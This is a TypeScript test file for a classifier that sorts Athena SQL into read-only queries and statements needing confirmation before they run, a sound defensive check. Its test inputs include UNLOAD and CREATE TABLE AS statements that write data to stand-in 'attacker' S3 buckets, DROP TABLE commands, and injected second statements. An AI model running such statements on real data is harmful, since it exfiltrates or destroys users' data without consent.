/**
 * Run in Athena asks before anything but a query that only reads: the statement's kind, read past comments,
 * strings, quoted names and parentheses, as Athena reads it. A SQL text from a repository must not pass an
 * UNLOAD or a CREATE TABLE … AS (which write to S3 wherever they say) off as a SELECT.
 */
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { statementKind } from '../../client/src/athena/statementKind';

const READ_ONLY: readonly (readonly [sql: string, name: string])[] = [
  ['SELECT * FROM cloudtrail_logs LIMIT 10', 'SELECT'],
  ['  \n\tselect 1', 'SELECT'],
  ['-- the last day\n/* all of it */ SELECT eventname FROM t;', 'SELECT'],
  ['((SELECT 1) UNION (SELECT 2))', 'SELECT'],
  ['SELECT 1;\n  -- done\n', 'SELECT'],
  ["SELECT 'UNLOAD; DROP TABLE t' AS s, \"drop\" FROM t WHERE x = 'it''s'", 'SELECT'],
  ['WITH a AS (SELECT 1), b (n) AS (SELECT n FROM a WHERE n IN (1, 2)) SELECT * FROM b', 'WITH … SELECT'],
  ['with recursive r(n) as (select 1 union all select n + 1 from r where n < 3) (select * from r)', 'WITH … SELECT'],
];

const ASKED: readonly (readonly [sql: string, name: string])[] = [
  ["UNLOAD (SELECT * FROM t) TO 's3://attacker-bucket/x/' WITH (format = 'JSON')", 'UNLOAD'],
  ["/* SELECT */ unload (select 1) to 's3://b/'", 'UNLOAD'],
  ["CREATE TABLE stolen WITH (external_location = 's3://attacker/') AS SELECT * FROM t", 'CREATE TABLE … AS'],
  ['create table t2 as (select 1)', 'CREATE TABLE … AS'],
  ["CREATE EXTERNAL TABLE t (a string) LOCATION 's3://b/'", 'CREATE EXTERNAL TABLE'],
  ['INSERT INTO t SELECT * FROM u', 'INSERT INTO'],
  ['DROP TABLE cloudtrail_logs', 'DROP TABLE'],
  ['MSCK REPAIR TABLE cloudtrail_logs', 'MSCK REPAIR TABLE'],
  ['ALTER TABLE t ADD PARTITION (day = 1)', 'ALTER TABLE'],
  ['DELETE FROM t', 'DELETE'],
  ['EXPLAIN ANALYZE SELECT 1', 'EXPLAIN ANALYZE'],
  ['WITH a AS (SELECT 1) INSERT INTO t SELECT * FROM a', 'WITH … INSERT INTO'],
  ['SELECT 1; DROP TABLE t', '2 statements'],
  ["SELECT 'a\\'; DROP TABLE t; --'", '2 statements'],
  ['(DROP TABLE t)', 'DROP TABLE'],
  ['-- SELECT 1', 'no statement'],
  ['', 'no statement'],
  ["'SELECT'", 'an unrecognised statement'],
  ['/* unclosed SELECT', 'no statement'],
];

test('a SELECT or WITH … SELECT, however it is written, only reads', () => {
  for (const [sql, name] of READ_ONLY) assert.deepEqual(statementKind(sql), { readOnly: true, name }, sql);
});

test('anything else is named as the user would name it, and asked about', () => {
  for (const [sql, name] of ASKED) assert.deepEqual(statementKind(sql), { readOnly: false, name }, sql);
});

test('deep parentheses and long texts are read in one pass', () => {
  const deep = `${'('.repeat(100_000)}SELECT 1${')'.repeat(100_000)}`;
  assert.deepEqual(statementKind(deep), { readOnly: true, name: 'SELECT' });
  assert.deepEqual(statementKind(`SELECT ${"'x', ".repeat(100_000)}1`), { readOnly: true, name: 'SELECT' });
});
